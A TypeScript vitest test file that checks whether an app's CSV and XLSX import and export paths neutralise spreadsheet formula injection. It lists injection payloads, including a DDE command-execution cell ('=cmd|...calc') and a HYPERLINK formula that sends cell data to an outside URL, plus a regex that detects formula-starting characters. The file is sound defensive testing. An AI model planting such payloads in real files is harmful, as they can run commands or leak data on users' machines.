import { existsSync, readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { parse } from 'csv-parse/sync'
import { readXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { csvRows } from '../src/imports/file/writeCsv.ts'
import { startApp, type TestApp } from './app.ts'
import { importFile, tagsByEmail } from './upload.ts'

/** Cells that a spreadsheet program would run: in, out, and in again, in every kind of file that Muster writes. */
const REAL = resolve(import.meta.dirname, '../../shared/realdata/hostile/csv-injection-payloads.txt')
const OWN = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"click")',
  '＝1+1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '=1\n+2',
  '%0A=1',
]
const payloads = [...new Set([...OWN, ...(existsSync(REAL) ? readFileSync(REAL, 'utf8').split('\n') : [])])]
  .map(text => text.replace(/\s+/g, ' ').trim())
  .filter(Boolean)

let app: TestApp
beforeAll(async () => {
  app = await startApp()
  const people = payloads.map((payload, at) => [`p${at}@example.com`, payload, payload, payload])
  await importFile(
    app,
    'evil.csv',
    [...csvRows(['email', 'first_name', 'last_name', '=Evil'], people)].join(''),
  )
})
afterAll(() => app.close())

// What Excel, LibreOffice and Google Sheets take for the beginning of a formula, the full-width signs among them.
const RUNS = /^[=+\-@\t\r＝＋－＠]/

const download = async (path: string) => Buffer.from(await (await app.fetch(path)).arrayBuffer())

test('an import takes every payload for what it is: text', async () => {
  const held = await tagsByEmail(app)
  payloads.forEach((payload, at) => {
    expect(held[`p${at}@example.com`], payload).toEqual([`=Evil: ${payload}`])
  })
})

test('no cell of an exported CSV begins like a formula, and importing it changes nothing', async () => {
  const bytes = await download('/api/v1/people/export.csv')
  const cells = (parse(bytes, { bom: true }) as string[][]).flat()
  expect(cells).toHaveLength((payloads.length + 1) * 4)
  expect(cells.filter(cell => RUNS.test(cell))).toEqual([])
  const before = await tagsByEmail(app)
  const done = await importFile(app, 'export.csv', bytes)
  expect(done.plan?.people).toMatchObject({ created: 0, updated: 0, unchanged: payloads.length })
  expect(await tagsByEmail(app)).toEqual(before)
})

test('in an exported workbook they are texts, not formulas, and importing it changes nothing', async () => {
  const bytes = await download('/api/v1/people/export.xlsx')
  const { sheets } = await readXlsx(bytes)
  const [sheet] = sheets
  expect([...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined)).toEqual([])
  expect(sheet?.rows.flat()).toEqual(expect.arrayContaining(payloads))
  const done = await importFile(app, 'export.xlsx', bytes)
  expect(done.plan?.people).toMatchObject({ created: 0, updated: 0, unchanged: payloads.length })
})

test('rows that are refused come back without a formula in them, and mended as they were', async () => {
  const rows = payloads.map(payload => ['no address', payload, payload, payload])
  const file = [
    ...csvRows(['email', 'first_name', 'last_name', '=Evil'], [...rows, ['z@example.com', 'Z', 'Z', '']]),
  ]
  const { id } = await importFile(app, '=evil.csv', file.join(''))
  const bytes = await download(`/api/v1/imports/${id}/rejected.csv`)
  const back = parse(bytes, { bom: true }) as string[][]
  expect(back).toHaveLength(payloads.length + 1)
  expect(back.flat().filter(cell => RUNS.test(cell))).toEqual([])
  let at = 0
  const mended = bytes.toString().replace(/^no address/gm, () => `m${at++}@example.com`)
  await importFile(app, 'mended.csv', mended)
  const held = await tagsByEmail(app)
  payloads.forEach((payload, n) => {
    expect(held[`m${n}@example.com`], payload).toEqual([`=Evil: ${payload}`])
  })
})
